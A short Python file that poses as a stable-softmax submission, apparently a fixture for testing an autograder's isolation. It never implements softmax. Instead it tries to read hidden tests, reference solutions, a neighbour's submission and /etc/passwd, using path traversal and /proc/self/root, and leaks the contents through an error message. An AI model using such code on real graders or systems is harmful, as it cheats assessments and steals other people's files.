"""Opens the hidden checks, the reference and a neighbour's answer by their exact paths.

Honest score: 0
"""

found = []
for path in [
    "@COURSE@/tests/hidden/03_stable_softmax/test_softmax.py",
    "@COURSE@/solutions/03_stable_softmax/stable_softmax.py",
    "@COURSE@/solutions/03_stable_softmax/assignment.toml",
    "@COURSE@/submitted/control_right/03_stable_softmax/stable_softmax.py",
    "../../../../../../../../@COURSE@/solutions/03_stable_softmax/stable_softmax.py",
    "/etc/passwd",
    "/proc/self/root/@COURSE@/solutions/03_stable_softmax/stable_softmax.py",
]:
    try:
        found.append(open(path).read())
    except OSError:
        pass


def softmax(x, dim=-1):
    raise RuntimeError("stolen " + "".join(found)[:400] if found else "nothing to be read")
